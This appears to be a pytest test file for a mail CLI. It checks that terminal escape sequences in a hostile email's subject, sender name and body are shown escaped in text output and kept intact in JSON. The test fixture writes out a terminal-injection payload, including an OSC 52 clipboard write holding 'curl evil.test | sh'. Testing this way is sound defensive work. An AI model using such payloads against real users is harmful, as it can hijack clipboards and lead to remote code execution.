"""Mail text printed by the CLI cannot drive the admin's terminal; JSON keeps the original text.

A hostile mail carries OSC 0 (retitle the window), OSC 52 (write the clipboard), ESC [ 2 J (wipe the
screen), a CR and C1 controls in its subject, its sender's name and its body. Every text command shows
them as visible ``\\xNN``; ``--format json`` returns exactly what was stored.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest

from mailgate.cli.terminal import for_terminal
from tests.helpers import mailgate

TITLE = "\x1b]0;owned\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.test | sh").decode() + "\x07"
WIPE = "\x1b[2J"
C1 = "\x9b31m"  # CSI as one C1 character

# Raw bytes a terminal would obey: C0 other than TAB/LF, DEL, and the C1 range.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _q(text: str) -> str:
    """An RFC 2047 Q encoded word, the way a hostile sender smuggles controls into a header."""
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def hostile_mail() -> bytes:
    subject = _q(f"Invoice {TITLE}{WIPE}{C1}")
    sender = _q(f"Mallory {CLIPBOARD}")
    body = f"Hello,\r\n{TITLE}{CLIPBOARD}{WIPE}please pay.\r\n{C1}\r\n"
    return (
        f"From: {sender} <mallory@evil.test>\r\n"
        "To: support@example.com\r\n"
        f"Subject: {subject}\r\n"
        "Message-ID: <hostile@evil.test>\r\n"
        "Date: Tue, 01 Dec 2026 10:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
    ).encode() + body.encode()


def assert_safe(stdout: bytes) -> str:
    text = stdout.decode()
    assert RAW_CONTROL.findall(text) == []
    return text


@pytest.fixture
def stored(harness, config_file: Path) -> Path:
    harness.deliver(hostile_mail(), mail_from="mallory@evil.test")
    return config_file


def test_the_helper_escapes_every_control_a_terminal_obeys_and_keeps_tab_and_newline() -> None:
    assert for_terminal("a\tb\nc") == "a\tb\nc"
    assert for_terminal("\x1b[2J\x07\r\x00\x7f\x9b\x80\x9f") == "\\x1b[2J\\x07\\x0d\\x00\\x7f\\x9b\\x80\\x9f"
    assert for_terminal("Grüße, 東京 ✓") == "Grüße, 東京 ✓"  # printable text beyond ASCII is left alone


def test_tickets_show_escapes_subject_name_and_body(stored: Path) -> None:
    result = mailgate(stored, "tickets", "show", "1")
    assert result.returncode == 0, result.stderr
    text = assert_safe(result.stdout)
    assert "\\x9b31m" in text  # in the subject (parsing already drops its C0 controls) and the body
    assert "\\x1b]0;owned\\x07\\x1b]52;c;" in text and "\\x1b[2Jplease pay." in text


def test_tickets_show_json_keeps_the_original_text(stored: Path) -> None:
    data = json.loads(mailgate(stored, "tickets", "show", "1", "--format", "json").stdout)
    assert data["subject"].endswith(C1)
    [message] = data["messages"]
    assert TITLE in message["text"] and CLIPBOARD in message["text"] and WIPE in message["text"]


def test_tickets_list_escapes_the_subject(stored: Path) -> None:
    text = assert_safe(mailgate(stored, "tickets", "list").stdout)
    assert "\\x9b31m" in text
    rows = json.loads(mailgate(stored, "tickets", "list", "--format", "json").stdout)
    assert rows[0]["subject"].endswith(C1)


def test_search_escapes_subject_and_snippet(stored: Path) -> None:
    text = assert_safe(mailgate(stored, "search", "pay").stdout)
    assert "\\x9b31m" in text
    rows = json.loads(mailgate(stored, "search", "pay", "--format", "json").stdout)
    assert rows[0]["subject"].endswith(C1)


def test_rules_explain_escapes_the_mail_text_its_checks_quote(make_config, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "10-invoices.toml").write_text(
        '[[rule]]\nname = "invoices"\nqueue = "support"\nmatch = { subject = { contains = ["invoice"] } }\n'
    )
    config = make_config(rules={"dir": str(rules)})
    result = mailgate(config, "rules", "explain", "-", input=hostile_mail())
    assert result.returncode == 0, result.stderr
    text = assert_safe(result.stdout)
    assert "[matched] invoices" in text and "\\x9b31m" in text  # the check line quotes the subject
    data = json.loads(mailgate(config, "rules", "explain", "-", "--format", "json", input=hostile_mail()).stdout)
    assert data["mail"]["subject"].endswith(C1)
    assert C1 in json.dumps(data["rules"], ensure_ascii=False)


def _reactor_that_fails_with_the_subject(ctx) -> None:
    raise RuntimeError(f"cannot handle {ctx.mail.subject}")


def test_spool_list_escapes_an_error_that_quotes_the_mail(harness, config_file: Path) -> None:
    harness.runtime.services.reactors = [_reactor_that_fails_with_the_subject]
    harness.deliver(hostile_mail(), mail_from="mallory@evil.test")
    text = assert_safe(mailgate(config_file, "spool", "list").stdout)
    assert "cannot handle Invoice" in text and "\\x9b31m" in text
    [row] = json.loads(mailgate(config_file, "spool", "list", "--format", "json").stdout)
    assert C1 in row["last_error"]
